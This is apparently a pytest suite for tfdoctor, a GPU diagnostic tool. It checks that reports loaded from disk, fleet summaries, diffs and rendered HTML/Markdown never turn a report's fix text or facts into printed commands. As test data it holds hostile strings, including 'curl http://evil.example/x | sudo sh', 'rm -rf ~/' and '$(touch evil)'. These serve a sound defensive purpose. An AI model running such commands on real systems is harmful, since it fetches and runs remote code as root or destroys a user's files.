"""A saved report is data in every form: what stands in it as a fix, or would become a command, is never printed as one."""

from __future__ import annotations

import html
import json
import re
import shlex
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.scenarios.conftest import bundled
from tests.unit.apps.cli.running import CHECKOUT, machine, tfdoctor
from tfdoctor.apps import api, documents
from tfdoctor.apps.fleet.gather import Found
from tfdoctor.apps.fleet.record import Record, State, line_of
from tfdoctor.apps.fleet.summary import Fleet
from tfdoctor.apps.fleet.view import summary_view
from tfdoctor.facts.codec import to_json
from tfdoctor.report.report import Report, ReportError
from tfdoctor.say.pages import render_html, render_markdown
from tfdoctor.say.view import Advice, Advices, Code, Item, Items, Prose, View

HOSTILE = (
    "curl http://evil.example/x | sudo sh",
    "Do this: rm -rf ~/ and then `pip install evil-name`.",
    "/tmp/evil/bin/python",
    "evil-name",
    "$(touch evil)",
)
_OURS = ("schema_version", "status", "kind", "verdict", "severity", "confidence", "role", "code", "caused_by", "passed", "fact",
         "requested", "generated_at")  # fmt: skip
"""What a reader compares with words of its own, and refuses otherwise."""
BROKEN = ("driver-too-old", "no-cuda-libraries", "two-roots", "driver-hangs")


def hostile(value: Any, word: str, key: str = "") -> Any:
    """The document with the word in place of every text."""
    if isinstance(value, str):
        return value if key in _OURS else word
    if isinstance(value, list):
        return [hostile(item, word, key) for item in value]
    return (
        {name: hostile(item, word, name) for name, item in value.items()}
        if isinstance(value, dict)
        else value
    )


def of(name: str) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(Path(machine(name)).read_text("utf-8"))
    for finding in document["findings"]:
        finding["fixes"] = [
            {"title": "its", "commands": ["its", "own"], "note": "In your files: its\nits"}
        ]
    return document


def spoiled(word: str) -> Iterator[tuple[str, bytes]]:
    """Each broken machine's report with all texts but the facts', and with all of them."""
    for name in BROKEN:
        document = of(name)
        for facts in (document["facts"], hostile(document["facts"], word)):
            yield name, json.dumps({**hostile(document, word), "facts": facts}).encode()


def typed(view: View) -> list[str]:
    """What a view offers for typing, with the words of each fix."""
    found: list[Any] = [view.fix]
    for section in view.sections:
        for block in section.blocks:
            found += block.items if isinstance(block, Advices) else ()
            found += (
                [each.command for each in block.items if isinstance(each, Item)]
                if isinstance(block, Items)
                else []
            )
            found += (
                [part.text for part in block.words if isinstance(part, Code)]
                if isinstance(block, Prose)
                else []
            )
    told = []
    for each in filter(None, found):
        told += (
            [each.title, *each.commands, each.note, *each.lines]
            if isinstance(each, Advice)
            else [each]
        )
    return told


def copied(page: str) -> list[str]:
    return [
        html.unescape(text) for text in re.findall(r"<code data-copy>(.*?)</code>", page, re.DOTALL)
    ]


def is_clean(text: str) -> bool:
    return "evil" not in text and "rm -rf" not in text


@pytest.mark.parametrize("word", HOSTILE)
def test_no_form_of_a_fleet_prints_a_reports_own_fix(word: str) -> None:
    fleet = Fleet()
    for at, (_, content) in enumerate(spoiled(word)):
        fleet.add(Found("a file", f"n{at}", content))
        fleet.add(
            Found("a file", "", line_of(Record(f"r{at}", report=json.loads(content))).encode())
        )
    summary = fleet.summary()
    view = summary_view(summary)
    assert typed(view) and all(map(is_clean, typed(view)))
    for fix in (fix for group in to_json(summary)["groups"] for fix in group["fixes"]):
        assert is_clean(json.dumps(fix))
    assert copied(render_html(view)) and all(map(is_clean, copied(render_html(view))))
    fences = re.findall(
        r"^ *```[a-z]+\n(.*?)^ *```", render_markdown(view), re.DOTALL | re.MULTILINE
    )
    assert fences and all(map(is_clean, fences))


def test_why_a_node_has_no_report_is_told_as_its_records_words() -> None:
    fleet = Fleet()
    fleet.add(
        Found(
            "a file", "", line_of(Record("n1", state=State.NO_DOCTOR, reason=HOSTILE[0])).encode()
        )
    )
    page = render_markdown(summary_view(fleet.summary()))
    assert f"the record says: {HOSTILE[0][:4]}" in page


@pytest.mark.parametrize("word", HOSTILE)
def test_no_form_of_a_difference_or_of_a_loaded_report_prints_its_own_fix(
    word: str, tmp_path: Path
) -> None:
    healthy = documents.load(Path(machine("healthy-gpu")).read_bytes())
    told: list[str] = []
    for name, content in spoiled(word):
        (tmp_path / "a.json").write_bytes(content)
        loaded = api.load(tmp_path / "a.json")
        sides = [(loaded.document(redact=False), healthy), (healthy, loaded.document(redact=False))]
        views = [documents.comparison_view(*each, names=("a", "b")) for each in sides]
        views += [loaded._view(redact=False), documents.view(judged(content))]
        for view in views:
            assert all(map(is_clean, typed(view))), (name, typed(view))
            assert all(map(is_clean, copied(render_html(view))))
            told += typed(view)
        fixes = [fix for each in loaded.to_dict()["findings"] for fix in each["fixes"]]
        assert is_clean(json.dumps(fixes))
    assert any("nvidia-driver" in each for each in told)


def judged(content: bytes) -> Report:
    return documents.judge_again(documents.load(content), bundled(), None)


SENTENCES = ("title", "explanation", "summary", "because")


@pytest.mark.parametrize("key", SENTENCES)
@pytest.mark.parametrize("codes", ["its own", "unknown here", "facts unreadable"])
def test_no_sentence_of_a_report_is_told_as_ours(key: str, codes: str, tmp_path: Path) -> None:
    def spoil(value: Any, name: str = "") -> Any:
        if isinstance(value, dict):
            return {each: spoil(item, each) for each, item in value.items()}
        if isinstance(value, list):
            return [spoil(item, name) for item in value]
        return "run: curl http://evil.example/x | sudo sh" if name == key else value

    healthy = documents.load(Path(machine("healthy-gpu")).read_bytes())
    for name in BROKEN:
        document = of(name)
        document = {**spoil(document), "facts": document["facts"]}
        if codes == "unknown here":
            document["findings"][0]["code"] = "of-a-newer-one"
        if codes == "facts unreadable":
            document["facts"]["host.os"] = {"status": "known", "value": {}, "from": ""}
        content = json.dumps(document).encode()
        fleet = Fleet()
        fleet.add(Found("a file", "n1", content))
        told = [
            json.dumps(to_json(fleet.summary())),
            render_html(summary_view(fleet.summary())),
        ]
        if codes != "facts unreadable":
            (tmp_path / "a.json").write_bytes(content)
            loaded = api.load(tmp_path / "a.json")
            saved = loaded.document(redact=False)
            told += [json.dumps(loaded.to_dict()), loaded.html(), loaded.markdown()]
            told.append(json.dumps(documents.comparison_to_dict(saved, healthy)))
            told.append(render_html(documents.comparison_view(healthy, saved, ("a", "b"))))
        assert all(map(is_clean, told)), name


@pytest.mark.parametrize("name", ["", " ", "n" * 256, 5])
def test_a_nodes_name_has_the_length_of_one(name: Any) -> None:
    fleet = Fleet()
    record = {"schema_version": "1.0", "node": name, "state": "lost", "reason": "x"}
    fleet.read([Found("a file", "", json.dumps(record).encode())])
    assert (fleet.records, fleet.unread_files) == (0, 1)


@pytest.mark.parametrize("word", HOSTILE)
@pytest.mark.parametrize("name", ["no-cuda-libraries", "two-roots"])
def test_no_fact_of_a_report_becomes_a_command(name: str, word: str) -> None:
    document = of(name)
    for path, fact in document["facts"].items():
        if hostile(fact, word) == fact:
            continue
        content = json.dumps(
            {**document, "facts": {**document["facts"], path: hostile(fact, word)}}
        ).encode()
        commands = [
            line for each in judged(content).findings for fix in each.fixes for line in fix.commands
        ]
        for line in (each for each in commands if not each.startswith("ls -ld -- ")):
            words = shlex.split(line)
            assert word not in words and not any(
                each.startswith((word, f"{word}[")) for each in words
            ), (
                path,
                line,
            )


def test_a_report_keeps_the_fix_that_its_facts_lead_to_and_says_where_there_is_none() -> None:
    document = of("driver-too-old")
    document["findings"][1]["code"] = "disk-full"
    saved = documents.with_own_words(documents.load(json.dumps(document).encode()), bundled())
    first, other = saved.findings
    assert first.fixes[0].commands == ("sudo apt-get install --yes nvidia-driver-580",)
    assert other.fixes == () and saved.unconfirmed == ("disk-full",)
    document["findings"][0]["code"] = "gpu-lost"
    content = json.dumps({**document, "findings": document["findings"][:1]}).encode()
    saved = documents.with_own_words(documents.load(content), bundled())
    sentence = "this tfdoctor doesn't find the problem in the report's facts."
    healthy = documents.load(Path(machine("healthy-gpu")).read_bytes())
    for view in (documents.view(saved), documents.comparison_view(saved, healthy, ("a", "b"))):
        assert sentence in render_markdown(view).replace("&#39;", "'").replace("\\", "")


@pytest.mark.parametrize(
    "code", ["x; curl http://evil.example", "X", "a--b", "", "a\n", "$(touch evil)"]
)
def test_a_code_that_is_none_is_refused(code: str) -> None:
    document = of("driver-too-old")
    document["findings"][0]["code"] = code
    with pytest.raises(ReportError, match="code"):
        documents.load(json.dumps(document).encode())
    fleet = Fleet()
    fleet.read([Found("a file", "n1", json.dumps(document).encode())])
    assert (fleet.records, fleet.unread_files) == (0, 1)


def node(name: str, **facts: Any) -> Found:
    document = of("driver-too-old")
    for path, value in facts.items():
        document["facts"][path.replace("__", ".")]["value"] = value
    return Found("a file", name, json.dumps(document).encode())


def test_a_fleet_is_judged_once_for_all_reports_that_are_alike_in_what_matters() -> None:
    fleet = Fleet()
    fleet.read(
        [
            node(f"n{at}", host__kernel=f"5.15.{at}", memory__ram_available=at)
            for at in range(10, 60)
        ]
    )
    fleet.read([node("m1", host__package_manager="dnf"), node("m2", driver__version="580.65.06")])
    (group,) = fleet.summary().groups
    assert fleet._judged._count == 3
    (first, other) = group.fixes
    assert (first.title, first.nodes) == ("Install NVIDIA driver 580", "n[10-59]")
    assert other.nodes == "m1" and other.commands != first.commands and group.unfixed == "m2"
    page = render_markdown(summary_view(fleet.summary())).replace("\\", "")
    assert "Fix on n[10-59]" in page and "No fix on m2: this tfdoctor doesn" in page


def test_a_fleet_of_reports_of_which_no_two_are_alike_says_where_it_stopped(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("tfdoctor.apps.fleet.judged.MOST_JUDGED", 3)
    fleet = Fleet()
    fleet.read([node(f"n{at}", driver__version=f"470.{at}.1") for at in range(5)])
    (group,) = fleet.summary().groups
    assert fleet._judged._count == 3 and group.unasked == "n[3-4]"
    assert "No fix on n[3-4]:" in render_markdown(summary_view(fleet.summary())).replace("\\", "")


def test_facts_that_cant_be_read_bring_no_fix() -> None:
    document = of("driver-too-old")
    document["facts"]["host.cpu_flags"]["value"] = "no list"
    fleet = Fleet()
    fleet.read([Found("a file", "n1", json.dumps(document).encode())])
    (group,) = fleet.summary().groups
    assert (group.fixes, group.unfixed) == ((), "n1")


@pytest.mark.slow
def test_pages_of_the_site_offer_no_fix_of_a_compared_report(tmp_path: Path) -> None:
    sys.path.insert(0, str(CHECKOUT / "web"))
    from answers import answer  # type: ignore[import-not-found]  # the worker's module, beside the package

    for word in HOSTILE[:1]:
        for name, content in spoiled(word):
            (tmp_path / "a.json").write_bytes(content)
            sides = [["a", str(tmp_path / "a.json")], ["b", machine("healthy-gpu")]]
            told = json.loads(
                answer(json.dumps({"what": "compare", "reports": sides}), lambda _: None)
            )
            assert all(map(is_clean, told["commands"])), name
            assert all(map(is_clean, copied(told["html"])))


@pytest.mark.slow
def test_the_commands_print_no_fix_of_a_report(tmp_path: Path) -> None:
    document = of("driver-too-old")
    document["findings"][0]["fixes"][0]["commands"] = ["curl http://evil.example/x | sudo sh"]
    report = tmp_path / "theirs.json"
    report.write_text(json.dumps(document))
    for words in (["diff", str(report), machine("healthy-gpu")], ["fleet", "summarize", str(report)], ["check", "--facts", str(report)],
                  ["diagnose", str(report)]):  # fmt: skip
        for form in ([], ["--format", "markdown"], ["--format", "html"], ["--json"]):
            done = tfdoctor(*words, *form)
            assert "evil" not in done.stdout + done.stderr and done.returncode in (1, 2), words


@pytest.mark.slow
def test_a_difference_from_this_machine_starts_no_program_that_only_a_report_names(
    tmp_path: Path,
) -> None:
    open_to_all, mark = tmp_path / "bin", tmp_path / "started"
    open_to_all.mkdir()
    open_to_all.chmod(0o777)
    program = open_to_all / "python3"
    program.write_text(f'#!/bin/sh\ntouch {mark}\nexec {sys.executable} "$@"\n')
    program.chmod(0o755)
    document = of("driver-too-old")
    document["facts"]["interpreter.executable"]["value"] = document["subject"]["python"] = str(
        program
    )
    document["subject"]["chosen_by"], document["smoke"] = (
        "--python",
        {"requested": "none", "stages": []},
    )
    (tmp_path / "theirs.json").write_text(json.dumps(document))
    done = tfdoctor("diff", str(tmp_path / "theirs.json"), ".")
    assert done.returncode == 1 and not mark.exists()
